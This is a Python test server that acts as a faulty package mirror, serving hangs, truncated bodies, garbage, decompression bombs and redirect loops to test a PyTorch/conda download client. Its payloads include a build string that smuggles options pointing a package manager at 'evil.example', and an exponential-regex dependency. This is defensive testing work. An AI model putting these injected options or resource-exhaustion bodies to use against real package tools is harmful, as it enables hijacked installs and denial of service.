#!/usr/bin/env python3
"""tests/fault/faultd.py — a scripted faulty mirror for the fault matrix.

    faultd.py start ROOT STATEDIR   serve ROOT (a fixture tree built by
                                    tests/fixtures/make-all.sh) on a free port
                                    of 127.0.0.1 (or $FAULTD_PORT); daemonise;
                                    print the port alone on stdout; exit 0
                                    once it listens
    faultd.py stop STATEDIR         stop it, wait until the pid is gone
                                    (harmless when not running)
    faultd.py port STATEDIR         print the port of a running instance
    faultd.py gen GENDIR            build the big bodies (bombs, the 200 MB
                                    repodata) into GENDIR, once (flock,
                                    idempotent: a few seconds the first time)

The server reads $FAULTD_GEN (default STATEDIR/gen) for the big bodies; run
`gen` first when a test uses `huge` or `bomb`.

What is served.  A request for /fault/SPEC/REST applies SPEC to ROOT/REST;
a request matching a prefix of STATEDIR/rules.json (re-read on every
request; {"/m1/": "garbage", "/m2/": "delay=0.7"}, longest prefix wins, the
prefix is replaced by "/") applies that SPEC; anything else is ROOT/REST,
served healthily.  Healthy serving: files as they are (ETag and
Last-Modified like nginx, 304 to a matching If-None-Match /
If-Modified-Since), a directory with index.html serves that, other
directories an nginx-style autoindex page (as aliyun's pytorch-wheels), a
directory without its slash a 301 to it, anything else 404.

SPEC is one or more items joined by "+", each "name" or "name=value":

  modifiers (combine with any mode)
    delay=S          wait S seconds (float) before answering
    only=EXT         for repodata.json[.zst|.bz2]: answer 404 unless the
                     request is for EXT (zst, bz2 or json), as a mirror that
                     has only that form
    match=TEXT       apply the fault only to paths containing TEXT; serve
                     the others healthily (e.g. match=linux-64: noarch is fine)

  network faults
    status=N         answer HTTP N (404, 500, 503, ...) with a small page
    hang             read the request, never answer (until the client leaves)
    stall            send 200 headers with the full Content-Length, no body
    slow[=R]         the healthy body at R bytes/s (default 1)
    truncate         Content-Length of the full body, send half, close
    reset            close the connection with a TCP RST, no answer

  data faults (200 OK; for repodata the payload is compressed to match the
  form asked for: .zst with zstd, .bz2 with bzip2, .json plain, so the fault
  reaches the parser, not the decompressor)
    garbage          64 KiB of random bytes (seeded by the path: deterministic)
    rawgarbage       random bytes whatever the form asked for (not encoded)
    maintenance      an HTML "down for maintenance" page
    jsonwrong        valid JSON of the wrong structure
    nopackages       repodata with "packages": {} (well-formed, empty)
    notorch          a listing page with wheels but no torch (numpy, an
                     sdist, directories); for repodata: records, none of them
                     PyTorch's
    empty            an empty body
    huge             repodata: the real one plus padding records up to
                     200 MB (zstd of it is ~1 MB; .bz2 404; .json sent with
                     Content-Encoding: gzip); a listing: 200 MB of links to
                     non-torch wheels, sent with Content-Encoding: gzip
    bomb             a decompression bomb in the form asked for: .zst a zstd
                     frame of 1 GiB, .bz2 300 MB, anything else 300 MB of
                     gzip sent with Content-Encoding: gzip
    rawgzipbomb      the gzip bomb as the body itself, no Content-Encoding
                     (a repodata.json that is "mislabelled gzip")
    badbuild         repodata whose PyTorch builds carry shell/option text in
                     their build string (` -c http://evil.example
                     --override-channels\\n--yes`)
    regexbomb        the real repodata plus a pytorch record whose depends
                     has an exponential regex build (`libevil 1.0 ^p+++...y*$`)

  redirects (302)
    redirect=loop        to the very same URL
    redirect=file        to file://ROOT/REST (a real file)
    redirect=official    to https://download.pytorch.org/REST
    redirect=port:N      to http://127.0.0.1:N/REST
    redirect=URL         (rules.json only) to URL + "/" + REST

STATEDIR/access.log, one line per request, written when the answer is
decided:  127.0.0.1 [time] "GET /path HTTP/1.1" STATUS BYTES spec="SPEC"
ua="..." inm="..."  (STATUS 000 for hang/reset, BYTES the body length
planned).  Standard library only, plus the zstd command for .zst bodies.
"""

import bz2
import email.utils
import fcntl
import hashlib
import html
import json
import os
import random
import select
import signal
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import time
import urllib.parse
import zlib
from http.server import BaseHTTPRequestHandler

PROG = "faultd"
GEN_VERSION = "3"
HUGE_BYTES = 200 * 1000 * 1000
ZSTD_BOMB_BYTES = 1 << 30
BOMB_BYTES = 300 * 1000 * 1000


def die(msg):
    sys.stderr.write("%s: %s\n" % (PROG, msg))
    sys.exit(1)


# --------------------------------------------------------------------------
# payloads

REPODATA_FORMS = {".zst": "zst", ".bz2": "bz2", "": "json"}


def repodata_form(path):
    """'zst', 'bz2', 'json' for .../repodata.json[.zst|.bz2]; None otherwise."""
    base = path.rsplit("/", 1)[-1]
    for suffix, form in REPODATA_FORMS.items():
        if base == "repodata.json" + suffix:
            return form
    return None


def subdir_of(path):
    parts = [p for p in path.split("/") if p]
    return parts[-2] if len(parts) >= 2 else "linux-64"


def zstd_compress(data):
    p = subprocess.run(["zstd", "-q", "-c", "-3"], input=data, stdout=subprocess.PIPE,
                       check=True)
    return p.stdout


def encode_form(form, plain):
    if form == "zst":
        return zstd_compress(plain)
    if form == "bz2":
        return bz2.compress(plain, 9)
    return plain


def seeded_bytes(path, n):
    rnd = random.Random(hashlib.sha256(path.encode()).digest())
    return bytes(rnd.getrandbits(8) for _ in range(n))


MAINTENANCE = (b"<!DOCTYPE html>\n<html><head><title>Down for maintenance</title></head>\n"
               b"<body><h1>We'll be back soon</h1>\n<p>The mirror is being synchronised. "
               b"Please try again later.</p></body></html>\n")


def notorch_listing():
    names = ["numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
             "numpy-1.26.4-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
             "pillow-10.3.0-cp311-cp311-manylinux_2_28_x86_64.whl",
             "requests-2.31.0-py3-none-any.whl", "numpy-1.26.4.tar.gz"]
    out = ["<html>\n<head><title>Index of /</title></head>\n<body>\n<h1>Index of /</h1>"
           "<hr><pre><a href=\"../\">../</a>\n<a href=\"numpy/\">numpy/</a>\n"]
    for n in names:
        out.append("<a href=\"%s\">%s</a>  01-Jan-2024 00:00  123456\n"
                   % (urllib.parse.quote(n), html.escape(n)))
    out.append("</pre><hr></body>\n</html>\n")
    return "".join(out).encode()


def notorch_repodata(subdir):
    pkgs = {}
    for v in ("1.26.4", "2.0.0"):
        fn = "numpy-%s-py311h0_0.tar.bz2" % v
        pkgs[fn] = {"build": "py311h0_0", "build_number": 0, "depends": ["python >=3.11,<3.12"],
                    "name": "numpy", "subdir": subdir, "version": v}
    return json.dumps({"info": {"subdir": subdir}, "packages": pkgs, "packages.conda": {},
                       "removed": [], "repodata_version": 1}, indent=1).encode()


def nopackages_repodata(subdir):
    return json.dumps({"info": {"subdir": subdir}, "packages": {}, "packages.conda": {},
                       "removed": [], "repodata_version": 1}).encode()


JSONWRONG = (b'{"info": [1, 2, 3], "packages": ["pytorch-2.5.1-py3.11_cpu_0.tar.bz2"], '
             b'"packages.conda": "none", "repodata_version": "one"}\n')

EVIL_BUILD = "py3.11_cpu_0 -c http://evil.example --override-channels\n--yes"
# glibc regcomp's time grows about 2.2x per '+': 18 take 0.6 s, 24 about a minute
REGEX_BOMB = "libevil 1.0 ^p" + "+" * 24 + "y*$"


def real_repodata(root, rest):
    with open(os.path.join(root, rest.lstrip("/")), "rb") as f:
        return json.load(f)


def badbuild_repodata(root, rest):
    """Every pytorch record's build gets option text appended; the records
    keep their file names (a mirror cannot be trusted to keep them apart)."""
    doc = real_repodata(root, rest)
    for rec in doc.get("packages", {}).values():
        if rec.get("name") in ("pytorch", "torchvision", "torchaudio"):
            rec["build"] = rec["build"] + EVIL_BUILD[len("py3.11_cpu_0"):]
    return json.dumps(doc, indent=1).encode()


def regexbomb_repodata(root, rest):
    """An old pytorch record (no command here selects it) and an unrelated
    one whose depends carry a build regex that glibc compiles in exponential
    time and memory."""
    doc = real_repodata(root, rest)
    subdir = doc.get("info", {}).get("subdir", "linux-64")
    pkgs = doc.setdefault("packages", {})
    for name, ver in (("pytorch", "1.0.0"), ("libevil", "1.0")):
        fn = "%s-%s-evil_0.tar.bz2" % (name, ver)
        pkgs[fn] = {"build": "evil_0", "build_number": 0, "name": name, "version": ver,
                    "subdir": subdir,
                    "depends": [REGEX_BOMB, "python >=3.11,<3.12.0a0",
                                "libevil 1.0 ^(a|a?)+$", "libevil2 >=1 ^(a|aa)+(b|bb)+$"]}
    return json.dumps(doc, indent=1).encode()


def data_payload(mode, root, path, rest):
    """The plain payload of a data-fault mode for REST (None: not a data mode)."""
    rd = repodata_form(path) is not None
    if mode == "garbage":
        return seeded_bytes(path, 65536)
    if mode == "maintenance":
        return MAINTENANCE
    if mode == "jsonwrong":
        return JSONWRONG
    if mode == "nopackages":
        return nopackages_repodata(subdir_of(path))
    if mode == "notorch":
        return notorch_repodata(subdir_of(path)) if rd else notorch_listing()
    if mode == "empty":
        return b""
    if mode in ("badbuild", "regexbomb"):
        plain = rest
        for suffix in (".zst", ".bz2"):
            if plain.endswith(suffix):
                plain = plain[:-len(suffix)]
        fn = badbuild_repodata if mode == "badbuild" else regexbomb_repodata
        return fn(root, plain)
    return None


# --------------------------------------------------------------------------
# big bodies, generated once into GENDIR

def gen_paths(gendir):
    return {
        "huge.json.zst": os.path.join(gendir, "huge-repodata.json.zst"),
        "huge.json.gz": os.path.join(gendir, "huge-repodata.json.gz"),
        "huge.html.gz": os.path.join(gendir, "huge-listing.html.gz"),
        "bomb.zst": os.path.join(gendir, "bomb.zst"),
        "bomb.bz2": os.path.join(gendir, "bomb.bz2"),
        "bomb.gz": os.path.join(gendir, "bomb.gz"),
    }


def huge_repodata_chunks(root):
    """The real linux-64 repodata with padding records up to HUGE_BYTES."""
    src = os.path.join(root, "pytorch", "linux-64", "repodata.json")
    with open(src, "rb") as f:
        real = f.read()
    head, sep, tail = real.partition(b'"packages": {')
    if not sep:
        raise RuntimeError("unexpected repodata layout in " + src)
    yield head + sep + b"\n"
    rec = (b'    "padding-pkg-%09d-1.0-0.tar.bz2": {"build": "0", "build_number": 0, '
           b'"depends": ["python >=3.8"], "md5": "00000000000000000000000000000000", '
           b'"name": "padding-pkg-%09d", "size": 1000, "subdir": "linux-64", '
           b'"timestamp": 1700000000000, "version": "1.0"},\n')
    size = len(head) + len(tail)
    i = 0
    batch = []
    while size < HUGE_BYTES:
        r = rec % (i, i)
        batch.append(r)
        size += len(r)
        i += 1
        if len(batch) == 4096:
            yield b"".join(batch)
            batch = []
    if batch:
        yield b"".join(batch)
    yield tail.lstrip(b"\n")


def huge_listing_chunks():
    yield b"<html>\n<head><title>Index of /</title></head>\n<body><pre>\n"
    line = (b'<a href="padding_pkg_%09d-1.0-py3-none-any.whl">padding_pkg_%09d-1.0-py3-none-any.whl'
            b'</a>  01-Jan-2024 00:00  1000\n')
    size = 0
    i = 0
    while size < HUGE_BYTES:
        batch = b"".join(line % (k, k) for k in range(i, i + 4096))
        i += 4096
        size += len(batch)
        yield batch
    yield b"</pre></body></html>\n"


def write_gzip(path, chunks, level=6):
    c = zlib.compressobj(level, zlib.DEFLATED, 31)
    with open(path + ".part", "wb") as f:
        for ch in chunks:
            f.write(c.compress(ch))
        f.write(c.flush())
    os.rename(path + ".part", path)


def write_zstd(path, chunks):
    with open(path + ".part", "wb") as out:
        p = subprocess.Popen(["zstd", "-q", "-c", "-3"], stdin=subprocess.PIPE, stdout=out)
        for ch in chunks:
            p.stdin.write(ch)
        p.stdin.close()
        if p.wait() != 0:
            raise RuntimeError("zstd failed")
    os.rename(path + ".part", path)


def zeros(n, step=1 << 20):
    block = bytes(step)
    while n > 0:
        yield block[:min(step, n)]
        n -= step


def cmd_gen(gendir, root=None):
    os.makedirs(gendir, exist_ok=True)
    lock = open(os.path.join(gendir, ".lock"), "w")
    fcntl.flock(lock, fcntl.LOCK_EX)
    stamp = os.path.join(gendir, "version")
    p = gen_paths(gendir)
    try:
        with open(stamp) as f:
            if f.read().strip() == GEN_VERSION and all(os.path.exists(x) for x in p.values()):
                return 0
    except OSError:
        pass
    if root is None:
        root = os.environ.get("FAULTD_ROOT")
    if not root:
        die("gen needs the fixture tree: FAULTD_ROOT=ROOT faultd.py gen GENDIR")
    t = threading.Thread(target=write_zstd, args=(p["huge.json.zst"], huge_repodata_chunks(root)))
    t.start()
    write_gzip(p["huge.json.gz"], huge_repodata_chunks(root))
    write_gzip(p["huge.html.gz"], huge_listing_chunks())
    write_gzip(p["bomb.gz"], zeros(BOMB_BYTES), 9)
    c = bz2.BZ2Compressor(9)
    with open(p["bomb.bz2"] + ".part", "wb") as f:
        for ch in zeros(BOMB_BYTES):
            f.write(c.compress(ch))
        f.write(c.flush())
    os.rename(p["bomb.bz2"] + ".part", p["bomb.bz2"])
    t.join()
    write_zstd(p["bomb.zst"], zeros(ZSTD_BOMB_BYTES))
    with open(stamp, "w") as f:
        f.write(GEN_VERSION + "\n")
    return 0


# --------------------------------------------------------------------------
# the server

def parse_spec(spec):
    items = {}
    for it in spec.split("+"):
        if not it:
            continue
        k, _, v = it.partition("=")
        items[k] = v
    return items


NETWORK_MODES = ("status", "hang", "stall", "slow", "truncate", "reset")
DATA_MODES = ("garbage", "rawgarbage", "maintenance", "jsonwrong", "nopackages", "notorch",
              "empty", "huge", "bomb", "rawgzipbomb", "badbuild", "regexbomb")
KNOWN = set(NETWORK_MODES + DATA_MODES + ("delay", "only", "match", "redirect", "ok"))


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "faultd"
    sys_version = ""

    def log_message(self, fmt, *args):  # our own access log instead
        pass

    def log_line(self, status, nbytes, spec):
        line = '%s [%s] "%s" %s %d spec="%s" ua="%s" inm=%s ims="%s"\n' % (
            self.client_address[0], time.strftime("%d/%b/%Y:%H:%M:%S %z"), self.requestline,
            "%03d" % status, nbytes, spec, self.headers.get("User-Agent", "-"),
            self.headers.get("If-None-Match", "-"), self.headers.get("If-Modified-Since", "-"))
        with self.server.log_lock:
            with open(self.server.log_path, "a") as f:
                f.write(line)

    # ---- routing

    def route(self):
        """(spec text, items, rest path) for this request."""
        raw = urllib.parse.urlsplit(self.path).path
        if raw.startswith("/fault/"):
            spec, _, rest = raw[len("/fault/"):].partition("/")
            return spec, parse_spec(spec), "/" + rest
        rules = self.server.rules()
        best = None
        for prefix in rules:
            if raw.startswith(prefix) and (best is None or len(prefix) > len(best)):
                best = prefix
        if best is not None:
            spec = rules[best]
            return spec, parse_spec(spec), "/" + raw[len(best):].lstrip("/")
        return "", {}, raw

    def do_HEAD(self):
        self.handle_request(head=True)

    def do_GET(self):
        self.handle_request(head=False)

    def handle_request(self, head):
        spec, items, rest = self.route()
        unknown = set(items) - KNOWN
        if unknown:
            return self.answer(400, b"unknown fault mode: %s\n" % ",".join(sorted(unknown)).encode(),
                               "text/plain", spec, head)
        if "match" in items and items["match"] not in rest:
            items = {k: v for k, v in items.items() if k == "delay"}
        if "delay" in items:
            time.sleep(float(items["delay"] or "1"))
        form = repodata_form(rest)
        only = items.get("only")
        if only and form is not None and form != only:
            return self.answer(404, b"not here\n", "text/plain", spec, head)
        if "redirect" in items:
            return self.redirect(items["redirect"], rest, spec, head)
        if "status" in items:
            code = int(items["status"] or "500")
            return self.answer(code, b"<html><body><h1>%d</h1></body></html>\n" % code,
                               "text/html", spec, head)
        if "hang" in items:
            self.log_line(0, 0, spec)
            return self.hang()
        if "reset" in items:
            self.log_line(0, 0, spec)
            self.close_connection = True
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                       struct.pack("ii", 1, 0))
            return
        for mode in DATA_MODES:
            if mode in items:
                return self.data_fault(mode, rest, spec, head)
        return self.serve_healthy(rest, spec, head, items)

    # ---- answers

    def answer(self, code, body, ctype, spec, head, extra=None):
        self.log_line(code, len(body), spec)
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.close_connection = True
        if not head:
            self.wfile.write(body)

    def hang(self):
        """Hold the connection until the client gives up or we stop."""
        self.close_connection = True
        sock = self.connection
        while not self.server.stopping:
            r, _, _ = select.select([sock], [], [], 0.5)
            if r:
                try:
                    if not sock.recv(65536):
                        return
                except OSError:
                    return

    def redirect(self, target, rest, spec, head):
        host = self.headers.get("Host", "127.0.0.1:%d" % self.server.server_address[1])
        if target == "loop":
            loc = "http://%s%s" % (host, self.path)
        elif target == "file":
            loc = "file://" + os.path.join(self.server.root, rest.lstrip("/"))
        elif target == "official":
            loc = "https://download.pytorch.org" + rest
        elif target.startswith("port:"):
            loc = "http://127.0.0.1:%s%s" % (target[5:], rest)
        else:
            loc = target.rstrip("/") + rest
        self.answer(302, b"<html><body>moved</body></html>\n", "text/html", spec, head,
                    {"Location": loc})

    def data_fault(self, mode, rest, spec, head):
        path = urllib.parse.urlsplit(self.path).path
        form = repodata_form(rest)
        ctype = "application/json" if form == "json" else \
            "application/zstd" if form == "zst" else \
            "application/x-bzip2" if form == "bz2" else "text/html"
        if mode in ("huge", "bomb", "rawgzipbomb"):
            return self.big_fault(mode, form, spec, head)
        if mode == "rawgarbage":
            return self.answer(200, seeded_bytes(path, 65536), ctype, spec, head)
        plain = data_payload(mode, self.server.root, path, rest)
        body = encode_form(form, plain) if form else plain
        return self.answer(200, body, ctype, spec, head)

    def big_fault(self, mode, form, spec, head):
        g = gen_paths(self.server.gendir)
        extra = {}
        if mode == "huge":
            if form == "zst":
                fn = g["huge.json.zst"]
            elif form == "bz2":
                return self.answer(404, b"not here\n", "text/plain", spec, head)
            else:
                fn = g["huge.json.gz"] if form == "json" else g["huge.html.gz"]
                extra["Content-Encoding"] = "gzip"
        elif mode == "rawgzipbomb":
            fn = g["bomb.gz"]
        elif form == "zst":
            fn = g["bomb.zst"]
        elif form == "bz2":
            fn = g["bomb.bz2"]
        else:
            fn = g["bomb.gz"]
            extra["Content-Encoding"] = "gzip"
        try:
            with open(fn, "rb") as f:
                body = f.read()
        except OSError:
            return self.answer(500, b"faultd: run `faultd.py gen` first\n", "text/plain", spec,
                               head)
        ctype = "application/json" if form == "json" else "text/html" if form is None \
            else "application/octet-stream"
        return self.answer(200, body, ctype, spec, head, extra)

    # ---- healthy serving (and the faults that need the healthy body)

    def resolve(self, rest):
        """(kind, fs path) for REST: 'file', 'dir', 'redirect', 'missing'."""
        rel = urllib.parse.unquote(rest)
        parts = [p for p in rel.split("/") if p]
        if any(p in (".", "..") for p in parts):
            return "missing", None
        fs = os.path.join(self.server.root, *parts)
        if os.path.isdir(fs):
            if not rel.endswith("/"):
                return "redirect", fs
            idx = os.path.join(fs, "index.html")
            if os.path.isfile(idx):
                return "file", idx
            return "dir", fs
        if os.path.isfile(fs):
            return "file", fs
        return "missing", None

    def autoindex(self, fs, rest):
        names = sorted(os.listdir(fs))
        out = ["<html>\n<head><title>Index of %s</title></head>\n<body>\n<h1>Index of %s</h1>"
               "<hr><pre><a href=\"../\">../</a>\n" % (html.escape(rest), html.escape(rest))]
        for n in names:
            p = os.path.join(fs, n)
            isdir = os.path.isdir(p)
            shown = n + ("/" if isdir else "")
            st = os.stat(p)
            out.append("<a href=\"%s\">%s</a>%s %s %20s\n" % (
                urllib.parse.quote(shown), html.escape(shown), " " * max(1, 51 - len(shown)),
                time.strftime("%d-%b-%Y %H:%M", time.gmtime(st.st_mtime)),
                "-" if isdir else str(st.st_size)))
        out.append("</pre><hr></body>\n</html>\n")
        return "".join(out).encode()

    def serve_healthy(self, rest, spec, head, items):
        kind, fs = self.resolve(rest)
        if kind == "missing":
            return self.answer(404, b"<html><body><h1>404 Not Found</h1></body></html>\n",
                               "text/html", spec, head)
        if kind == "redirect":
            host = self.headers.get("Host", "127.0.0.1")
            loc = "http://%s%s/" % (host, urllib.parse.urlsplit(self.path).path)
            return self.answer(301, b"<html><body>moved</body></html>\n", "text/html", spec,
                               head, {"Location": loc})
        validators = {}
        if kind == "dir":
            body = self.autoindex(fs, rest)
            ctype = "text/html"
        else:
            with open(fs, "rb") as f:
                body = f.read()
            st = os.stat(fs)
            etag = '"%x-%x"' % (int(st.st_mtime), st.st_size)
            lm = email.utils.formatdate(st.st_mtime, usegmt=True)
            validators = {"ETag": etag, "Last-Modified": lm}
            inm = self.headers.get("If-None-Match")
            ims = self.headers.get("If-Modified-Since")
            if (inm and inm == etag) or (not inm and ims and ims == lm):
                self.log_line(304, 0, spec)
                self.send_response(304)
                for k, v in validators.items():
                    self.send_header(k, v)
                self.send_header("Connection", "close")
                self.end_headers()
                self.close_connection = True
                return
            ext = os.path.splitext(fs)[1]
            ctype = {".html": "text/html", ".json": "application/json",
                     ".zst": "application/zstd", ".bz2": "application/x-bzip2",
                     ".whl": "application/zip"}.get(ext, "application/octet-stream")
        if "stall" in items or "slow" in items or "truncate" in items:
            return self.serve_faulty_body(body, ctype, spec, head, items)
        return self.answer(200, body, ctype, spec, head, validators)

    def serve_faulty_body(self, body, ctype, spec, head, items):
        self.log_line(200, len(body), spec)
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        if head:
            return
        try:
            if "stall" in items:
                self.wfile.flush()
                return self.hang()
            if "truncate" in items:
                self.wfile.write(body[:len(body) // 2])
                self.wfile.flush()
                self.connection.shutdown(socket.SHUT_WR)
                return
            rate = max(1, int(items.get("slow") or "1"))
            for i in range(0, len(body), rate):
                if self.server.stopping:
                    return
                self.wfile.write(body[i:i + rate])
                self.wfile.flush()
                time.sleep(1.0)
        except OSError:
            return


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 256

    def __init__(self, addr, root, state, gendir):
        super().__init__(addr, Handler)
        self.root = root
        self.state = state
        self.gendir = gendir
        self.log_path = os.path.join(state, "access.log")
        self.rules_path = os.path.join(state, "rules.json")
        self.log_lock = threading.Lock()
        self.stopping = False

    def rules(self):
        try:
            with open(self.rules_path) as f:
                r = json.load(f)
            return r if isinstance(r, dict) else {}
        except (OSError, ValueError):
            return {}

    def handle_error(self, request, client_address):
        pass  # a client that went away is not our problem


# --------------------------------------------------------------------------
# daemon plumbing (as tests/lib/blackhole)

def paths(state):
    return (os.path.join(state, "faultd.pid"), os.path.join(state, "faultd.port"))


def read_int(path):
    try:
        with open(path) as f:
            return int(f.read().strip())
    except (OSError, ValueError):
        return None


def alive(pid):
    if not pid:
        return False
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        pass
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return b"faultd" in f.read()
    except OSError:
        return True


def cmd_start(root, state):
    if not os.path.isdir(root):
        die("root directory '%s' does not exist" % root)
    root = os.path.realpath(root)
    os.makedirs(state, exist_ok=True)
    state = os.path.realpath(state)
    pidf, portf = paths(state)
    pid = read_int(pidf)
    if alive(pid):
        die("already running in %s (pid %d); stop it first" % (state, pid))
    for p in (pidf, portf):
        try:
            os.unlink(p)
        except FileNotFoundError:
            pass
    open(os.path.join(state, "access.log"), "a").close()
    gendir = os.environ.get("FAULTD_GEN") or os.path.join(state, "gen")
    want = os.environ.get("FAULTD_PORT", "")
    try:
        srv = Server(("127.0.0.1", int(want) if want else 0), root, state, gendir)
    except OSError as e:
        die("cannot listen on 127.0.0.1:%s: %s" % (want or 0, e.strerror))
    port = srv.server_address[1]
    rfd, wfd = os.pipe()
    pid = os.fork()
    if pid > 0:
        os.close(wfd)
        srv.socket.close()
        os.waitpid(pid, 0)
        ok = os.read(rfd, 16)
        os.close(rfd)
        if ok != b"ok":
            die("daemon failed to start")
        sys.stdout.write("%d\n" % port)
        sys.stdout.flush()
        return 0
    os.close(rfd)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    keep = {srv.socket.fileno(), wfd}
    try:
        fds = [int(x) for x in os.listdir("/proc/self/fd")]
    except OSError:
        fds = list(range(3, 1024))
    for fd in fds:
        if fd > 2 and fd not in keep:
            try:
                os.close(fd)
            except OSError:
                pass

    def stop(*_):
        srv.stopping = True
        os._exit(0)
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    try:
        with open(pidf + ".tmp", "w") as f:
            f.write("%d\n" % os.getpid())
        os.rename(pidf + ".tmp", pidf)
        with open(portf, "w") as f:
            f.write("%d\n" % port)
        os.write(wfd, b"ok")
        os.close(wfd)
        srv.serve_forever(poll_interval=0.2)
    finally:
        os._exit(0)


def cmd_stop(state):
    pidf, portf = paths(state)
    pid = read_int(pidf)
    if alive(pid):
        os.kill(pid, signal.SIGTERM)
        deadline = time.time() + 5
        while alive(pid) and time.time() < deadline:
            time.sleep(0.02)
        if alive(pid):
            os.kill(pid, signal.SIGKILL)
            deadline = time.time() + 2
            while alive(pid) and time.time() < deadline:
                time.sleep(0.02)
        if alive(pid):
            die("pid %d did not stop" % pid)
    for p in (pidf, portf):
        try:
            os.unlink(p)
        except FileNotFoundError:
            pass
    return 0


def cmd_port(state):
    pidf, portf = paths(state)
    if not alive(read_int(pidf)) or read_int(portf) is None:
        return 1
    sys.stdout.write("%d\n" % read_int(portf))
    return 0


def main(argv):
    if len(argv) == 4 and argv[1] == "start":
        return cmd_start(argv[2], argv[3])
    if len(argv) == 3 and argv[1] == "stop":
        return cmd_stop(argv[2])
    if len(argv) == 3 and argv[1] == "port":
        return cmd_port(argv[2])
    if len(argv) in (3, 4) and argv[1] == "gen":
        return cmd_gen(argv[2], argv[3] if len(argv) == 4 else None)
    sys.stderr.write("usage: faultd.py start ROOT STATEDIR | stop STATEDIR | port STATEDIR | "
                     "gen GENDIR [ROOT]\n")
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
